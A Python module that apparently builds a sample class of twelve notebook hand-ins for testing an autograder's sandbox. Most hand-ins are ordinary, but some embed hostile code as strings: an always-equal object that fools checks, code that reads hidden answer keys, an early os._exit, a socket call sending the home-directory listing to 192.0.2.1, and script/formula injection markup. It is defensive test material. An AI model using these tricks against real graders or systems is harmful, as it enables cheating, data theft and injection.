"""An example class for teachers who try the marking: twelve hand-ins of one assignment.

Right answers are the author's, read from the assignment, so that no file of the course
holds them twice. The hostile ones are text: only marking runs them, in its box. What
they try does no harm even outside one.
"""

import io
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

from helpers import atomic, material
from helpers.errors import GradingError, Problem
from helpers.grading import assignment
from helpers.grading.assignment import Assignment, marks
from helpers.grading.gradebook.sheet import as_csv
from helpers.notebooks.cell import cells_of
from helpers.notebooks.normalise import to_text
from helpers.notebooks.reading import parse
from helpers.notebooks.student import copy_of
from helpers.swap import draft_of

NAME = "08-the-visits"
FOLDER, ROSTER, RULES = "week-8", "class.csv", "rules.yml"
_STUDENTS = (
    *("One", "Two", "Three", "Four", "Five", "Six", "Seven"),
    *("Eight", "Nine", "Ten", "Eleven", "Twelve", "Thirteen"),
)
# It answers nothing: students get this program, too.
_TEXT = "An example of a text. A person reads it, line by line of its table of points."
_NO_NUMBER = "def {0}(*given, **more):\n    return 0\n"
_ALL = 'def tours(visits):\n    return len(visits["visit_id"].unique())\n'
_LOOP = "def busiest(days, months):\n    while True:\n        pass\n"
_MISSPELT = 'def tours(visits):\n    return visits["visitors"].nunique()\n'
_EQUAL = '''\
class Equal(int):
    """Is equal to whatever a check expects."""

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0


def tours(visits):
    return Equal()
'''
_THIEF = '''\
def missed(*given, **more):
    """Look for the answers beside the course, and take the first number in them."""
    from pathlib import Path

    import helpers

    course = Path(helpers.__file__).parents[2]
    key = next(course.glob("exercises/08-*.ipynb")).read_text()
    return int(key.split("BEGIN SOLUTION")[1].split(" == ")[1][:2])
'''
_LEAVER = "def tours(visits):\n    import os\n\n    os._exit(0)\n"
# The address is one of those that documents use: nobody has it.
_CALLER = '''\
def missed(*given, **more):
    """Send the folder of whoever marks to somebody else."""
    import os
    import socket

    found = os.listdir(os.path.expanduser("~"))
    with socket.create_connection(("192.0.2.1", 80), timeout=2) as line:
        line.sendall(repr(found).encode())
    return 38
'''
_MARKUP = (
    "</pre></details><script>document.title = 'mine'</script>"
    '<img src="x" onerror="document.title = 2"> =HYPERLINK("x")'
)
_RULES = f"""\
# How marks become one mark. The percentages add up to 100.
assignments:
  percent: 60
  best: 1          # of those named below; the whole course takes the best 8 of 10
  of: [{NAME}]
by_hand:
  essay: {{percent: 30, points: 20}}
  class work: {{percent: 10, points: 10}}
late:
  percent_a_day: 10  # of an assignment's points, for each day
  days: 5            # later than this, it earns nothing; null: there is no such day
"""


def write(out: Path) -> list[str]:
    """Write the class into a new or empty folder; return a line for each hand-in.

    Raises GradingError where something lies in the folder, or the assignment is missing
    or without its solutions.
    """
    if out.exists() and any(out.iterdir()):
        wrong = "Something lies in this folder."
        mend = "Name one that is not there yet."
        raise GradingError(Problem(place=str(out), wrong=wrong, mend=mend))
    path = material.folder("assignments") / f"{NAME}.ipynb"
    if not path.is_file() or "BEGIN SOLUTION" not in path.read_text("utf-8"):
        wrong = f"The assignment {NAME} with its solutions does not lie there."
        mend = "Make the example in a checkout of the course."
        raise GradingError(Problem(place=str(path.parent), wrong=wrong, mend=mend))
    made = list(_handins(assignment.load(path)))
    rows: list[list[str]] = [["number", "name"]]
    rows += [[str(1001 + i), f"Student {word}"] for i, word in enumerate(_STUDENTS)]
    files = {f"{FOLDER}/{name}": content for name, content, _ in made}
    files |= {ROSTER: as_csv(rows).encode(), RULES: _RULES.encode()}
    with draft_of(out) as draft:
        (draft / FOLDER).mkdir()
        for name, content in files.items():
            atomic.write(draft / name, content)
    return [f"{FOLDER}/{name}: {words}" for name, _, words in made]


def _handins(made: Assignment) -> Iterator[tuple[str, bytes, str]]:
    """Yield the name of each file, its content, and what it is an example of."""
    right = {question.name: question.source for question in made.questions}
    own = {**right, "unprecedented": _TEXT}
    wrong = {name: _NO_NUMBER.format(name) for name in ("tours", "missed", "busiest")}
    shared = {"busiest": right["busiest"], "unprecedented": _TEXT}

    def file(number: int, answers: Mapping[str, str]) -> tuple[str, bytes]:
        return f"{NAME}-{number}.ipynb", notebook(made, answers)

    yield *file(1001, right), "all right"
    name, content = file(1002, own)
    yield f"studenttwo_4702_98002_{name}", content, "all right, as Canvas names it"
    most = {name: own[name] for name in ("tours", "missed", "unprecedented")}
    yield *file(1003, most), "partly: one question is left open"
    yield *file(1004, {**own, "tours": _ALL}), "partly: one answer is wrong"
    yield *file(1005, {**own, "busiest": _LOOP}), "partly: one answer never ends"
    yield *file(1006, {**wrong, "unprecedented": _MARKUP}), "wrong, with markup in it"
    yield *file(1007, {**wrong, "tours": _MISSPELT}), "wrong, without a text"
    yield *file(1008, {}), "empty"
    name, content = file(1009, own)
    yield name, content[: len(content) // 2], "broken: the file ends in the middle"
    yield *file(1010, {**shared, "tours": _EQUAL, "missed": _THIEF}), "hostile: cheats"
    yield (
        *file(1011, {**shared, "tours": _LEAVER, "missed": _CALLER}),
        ("hostile: ends Python, looks around, calls out"),
    )
    name, content = file(1012, {**right, "unprecedented": ""})
    packed = f"Student Twelve_4712_assignsubmission_file_{name}"
    yield f"{NAME}-moodle.zip", _zip(packed, content), "a zip, as Moodle makes it"


def notebook(made: Assignment, answers: Mapping[str, str]) -> bytes:
    """Return a students' copy with these answers; the others are open."""
    blank = parse(copy_of(made.path), made.path.name)
    for cell in cells_of(blank, made.path.name):
        name = marks(cell).get("grade_id", "")
        if name in answers:
            cell.raw.source = _without_marks(answers[name])
    return to_text(blank).encode()


def _without_marks(source: str) -> str:
    """Return an answer without what only the author writes into it."""
    lines = source.partition("\n\n*For the marker:")[0].splitlines()
    return "\n".join(line for line in lines if not line.lstrip().startswith("### "))


def _zip(name: str, content: bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
    return packed.getvalue()
